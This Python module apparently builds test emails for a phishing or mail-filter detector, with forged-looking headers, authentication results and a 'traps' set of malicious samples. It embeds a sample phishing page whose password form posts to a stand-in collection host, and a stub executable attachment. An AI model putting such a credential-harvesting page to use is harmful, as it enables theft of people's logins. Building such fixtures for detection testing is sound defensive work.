"""Builds the mails of ``mails.toml`` as they lie in a mailbox: two hops, what the last server recorded, the fields."""

from __future__ import annotations

import tomllib
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

READER = "jana@novak-keramik.example.org"
WHEN = datetime(2025, 3, 11, 9, 30, tzinfo=UTC)
PAGE = (
    b'<html><body onload="go()"><form action="https://collect.example.top/x.php" method=post>'
    b'<input type=password name=p></form><script>document.write(atob("PGI+"))</script></body></html>'
)
PROGRAM = b"MZ" + bytes(58) + b"\x40\x00\x00\x00" + b"PE\x00\x00" + bytes(200)
CONTENTS = {
    "page": PAGE,
    "program": PROGRAM,
    "pdf": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
    "calendar": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
}


def made(
    *,
    sender: str,
    subject: str,
    text: str = "",
    html: str = "",
    to: str = READER,
    auth: str = "",
    files: list[tuple[str, str, str]] | None = None,
    fields: dict[str, str] | None = None,
) -> bytes:
    """One mail; ``files`` are name, type and a key of CONTENTS."""
    mail = EmailMessage()
    given = dict(fields or {})
    domain = sender.rpartition("@")[2].strip("> ") or "unknown.example"
    mail["Return-Path"] = given.pop("Return-Path", f"<bounce@{domain}>")
    if auth:
        mail["Authentication-Results"] = f"mx.example.org; {auth}"
    mail["Received"] = (
        f"from out.{domain} (out.{domain} [198.51.100.7]) by mx.example.org with ESMTPS id 4x; "
        "Tue, 11 Mar 2025 09:30:09 +0000"
    )
    mail["Received"] = f"from app ([10.1.2.3]) by out.{domain} with ESMTP id 3x; Tue, 11 Mar 2025 09:30:02 +0000"
    mail["From"] = sender
    if to:
        mail["To"] = to
    mail["Subject"] = subject
    mail["Date"] = format_datetime(WHEN)
    mail["Message-ID"] = given.pop("Message-ID", f"<20250311.77@{domain}>")
    for name, value in given.items():
        mail[name] = value
    if text or not html:
        mail.set_content(text or "-")
    if html:
        if text:
            mail.add_alternative(html, subtype="html")
        else:
            mail.set_content(html, subtype="html")
    for name, kind, content in files or []:
        major, _, minor = kind.partition("/")
        mail.add_attachment(CONTENTS[content], maintype=major, subtype=minor, filename=name)
    return mail.as_bytes()


def _read(kind: str) -> dict[str, bytes]:
    table = tomllib.loads(Path(__file__).with_name("mails.toml").read_text(encoding="utf-8"))
    return {mail.pop("name"): made(**mail) for mail in table[kind]}


TRAPS = _read("traps")
ORDINARY = _read("ordinary")
